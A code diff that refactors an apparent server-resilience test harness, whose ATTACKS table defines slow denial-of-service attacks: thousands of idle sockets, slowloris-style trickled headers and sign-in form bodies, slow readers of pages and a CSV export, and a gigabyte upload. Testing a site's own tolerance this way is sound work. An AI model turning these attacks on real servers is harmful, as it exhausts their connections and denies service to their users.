@@ -9,7 +9,7 @@ import json
 import resource
 import sys
 from collections import Counter
-from collections.abc import Awaitable, Callable, Iterable, Mapping
+from collections.abc import Awaitable, Callable, Mapping
 from contextlib import suppress
 from dataclasses import dataclass, field
 
@@ -113,33 +113,33 @@ class Attacker:
 Attack = Callable[[Attacker], list[Awaitable[None]]]
 
 
-async def later(seconds: float, doing: Awaitable[None]) -> None:
+async def later(seconds: float, act: Callable[..., Awaitable[None]], *given: object) -> None:
     await asyncio.sleep(seconds)
-    await doing
+    await act(*given)
 
 
-def paced(a_second: float, doings: Iterable[Awaitable[None]]) -> list[Awaitable[None]]:
+def paced(
+    a_second: float, times: int, act: Callable[..., Awaitable[None]], *given: object
+) -> list[Awaitable[None]]:
     """One after the other: what is tried is to be slow, and not to come all at once."""
-    return [later(number / a_second, doing) for number, doing in enumerate(doings)]
+    return [later(number / a_second, act, *given) for number in range(times)]
 
 
 PART = b'--b\r\ncontent-disposition: form-data; name="x"\r\n\r\n\r\n'
 
 ATTACKS: Mapping[str, Attack] = {
-    "idle sockets": lambda one: paced(1_000, (one.trickle(b"", b"") for _ in range(3_000))),
-    "slow headers": lambda one: paced(
-        500, (one.trickle(b"GET / HTTP/1.1\r\n", b"x: y\r\n") for _ in range(500))
-    ),
+    "idle sockets": lambda one: paced(1_000, 3_000, one.trickle, b"", b""),
+    "slow headers": lambda one: paced(500, 500, one.trickle, b"GET / HTTP/1.1\r\n", b"x: y\r\n"),
     "slow bodies": lambda one: paced(
         20,
-        (
-            one.trickle(one.head("POST", SIGN_IN, f"content-type: {FORM}", "content-length: 9999"), b"x")
-            for _ in range(300)
-        ),
+        300,
+        one.trickle,
+        one.head("POST", SIGN_IN, f"content-type: {FORM}", "content-length: 9999"),
+        b"x",
     ),
     "slow readers": lambda one: [
-        *paced(5, (one.unread("/fr/") for _ in range(200))),
-        *paced(5, (one.unread("/fr/open-data/campaigns.csv") for _ in range(20))),
+        *paced(5, 200, one.unread, "/fr/"),
+        *paced(5, 20, one.unread, "/fr/open-data/campaigns.csv"),
     ],
     "a gigabyte in chunks": lambda one: [
         one.pour(SIGN_IN, FORM),
